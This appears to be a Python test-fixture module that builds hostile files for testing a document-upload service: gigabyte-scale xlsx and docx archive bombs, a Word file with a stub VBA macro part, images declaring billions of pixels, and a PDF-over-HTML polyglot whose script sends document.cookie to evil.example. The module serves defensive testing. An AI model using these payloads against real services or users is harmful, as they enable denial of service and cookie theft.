"""Files built to hurt whoever opens them, made with the standard library
(and python-docx / openpyxl for the honest parts) so that tests need no
fixtures on disk: archive bombs, macro documents renamed .docx, PDF headers
over web pages, pictures declaring billions of pixels."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from docx import Document
from openpyxl import Workbook

SHEET_PATH = "xl/worksheets/sheet1.xml"
SHEET_START = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_END = b"</sheetData></worksheet>"
MB = 1024 * 1024


def inline_row(*values: str) -> bytes:
    """One sheet row of inline text cells, without a row number (readers count)."""
    cells = "".join(f'<c t="inlineStr"><is><t>{value}</t></is></c>' for value in values)
    return f"<row>{cells}</row>".encode()


def _deflate(data: bytes, *, final: bool) -> bytes:
    # Each piece comes from a fresh compressor and ends on a full flush, so
    # no piece refers back into another and pieces can be repeated freely.
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)


@dataclass(frozen=True)
class Entry:
    """One deflated part of a zip archive, with the sizes it declares."""

    name: str
    deflated: bytes
    crc: int
    size: int

    @classmethod
    def of(cls, name: str, data: bytes) -> Entry:
        return cls(name, _deflate(data, final=True), zlib.crc32(data), len(data))


def build_zip(entries: list[Entry]) -> bytes:
    """A zip archive of already deflated entries (zipfile cannot take those)."""
    out = io.BytesIO()
    directory = []
    for entry in entries:
        offset = out.tell()
        name = entry.name.encode()
        sizes = (entry.crc, len(entry.deflated), entry.size, len(name))
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, *sizes, 0) + name)
        out.write(entry.deflated)
        directory.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, *sizes, 0, 0, 0, 0, 0, offset
            )
            + name
        )
    start = out.tell()
    listing = b"".join(directory)
    out.write(
        listing
        + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(listing), start, 0)
    )
    return out.getvalue()


def _parts_of(archive_bytes: bytes) -> list[Entry]:
    with zipfile.ZipFile(io.BytesIO(archive_bytes)) as archive:
        return [Entry.of(name, archive.read(name)) for name in archive.namelist()]


def _workbook() -> bytes:
    book = Workbook()
    book.active.append(["姓名", "性别"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _bomb(
    parts: list[Entry], path: str, *, start: bytes, chunk: bytes, end: bytes, unpacked_bytes: int
) -> bytes:
    """parts with the part at path replaced by start, chunk repeated to about
    unpacked_bytes, and end: deflated once, declared honestly."""
    repeats = max(unpacked_bytes // len(chunk), 1)
    crc = zlib.crc32(start)
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(end, crc)
    deflated = (
        _deflate(start, final=False) + _deflate(chunk, final=False) * repeats + _deflate(end, final=True)
    )
    bomb = Entry(path, deflated, crc, len(start) + len(chunk) * repeats + len(end))
    return build_zip([bomb if part.name == path else part for part in parts])


@functools.cache
def xlsx_bomb(unpacked_bytes: int = 1024 * MB) -> bytes:
    """A real workbook (headers 姓名, 性别) whose first sheet inflates to about
    unpacked_bytes of rows with 200-character names, from a few megabytes."""
    row = inline_row("名" * 200, "?")
    return _bomb(
        _parts_of(_workbook()),
        SHEET_PATH,
        start=SHEET_START + inline_row("姓名", "性别"),
        chunk=row * (MB // len(row)),
        end=SHEET_END,
        unpacked_bytes=unpacked_bytes,
    )


@functools.cache
def docx_bomb(unpacked_bytes: int = 1024 * MB) -> bytes:
    """A real Word document whose body inflates to about unpacked_bytes."""
    paragraph = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>".format("第一条" * 100).encode()
    return _bomb(
        _parts_of(word_document()),
        "word/document.xml",
        start=b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>',
        chunk=paragraph * (MB // len(paragraph)),
        end=b"</w:body></w:document>",
        unpacked_bytes=unpacked_bytes,
    )


def xlsx_with_sheet(sheet_xml: bytes) -> bytes:
    """A real workbook whose first sheet is sheet_xml."""
    return build_zip(
        [Entry.of(SHEET_PATH, sheet_xml) if p.name == SHEET_PATH else p for p in _parts_of(_workbook())]
    )


def xlsx_with_many_parts(count: int) -> bytes:
    """A real workbook padded with count empty extra parts."""
    extra = [Entry.of(f"xl/media/empty{i}.bin", b"") for i in range(count)]
    return build_zip(_parts_of(_workbook()) + extra)


def word_document(text: str = "第一条 为了规范工作，制定本办法。") -> bytes:
    document = Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def macro_document(*, keep_plain_type: bool = False) -> bytes:
    """A macro-enabled Word document (.docm content): the macro-enabled main
    type and a VBA project part. keep_plain_type leaves the main part's type
    plain, as a hand-edited file might, so that only the VBA part betrays it."""
    source = io.BytesIO(word_document())
    target = io.BytesIO()
    with zipfile.ZipFile(source) as plain, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as macro:
        for name in plain.namelist():
            data = plain.read(name)
            if name == "[Content_Types].xml":
                text = data.decode()
                if not keep_plain_type:
                    text = text.replace(PLAIN_MAIN, MACRO_MAIN)
                text = text.replace(
                    "</Types>",
                    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
                data = text.encode()
            macro.writestr(name, data)
        macro.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)
    return target.getvalue()


PDF_OVER_HTML = (
    b"%PDF-1.7\n<!DOCTYPE html><html><body><script>"
    b"fetch('https://evil.example/?c='+document.cookie)</script></body></html>\n"
)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int) -> bytes:
    """A one-bit greyscale PNG declaring width × height pixels whose data
    holds only the first rows: tiny on disk, width × height in a viewer."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = (b"\x00" + b"\x00" * ((width + 7) // 8)) * min(height, 8)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(rows, 9))
        + _png_chunk(b"IEND", b"")
    )


def jpeg(width: int, height: int) -> bytes:
    """The head of a baseline JPEG: start, an APP0 segment, a frame header
    declaring width × height, then the end marker."""
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app0 + frame + b"\xff\xd9"
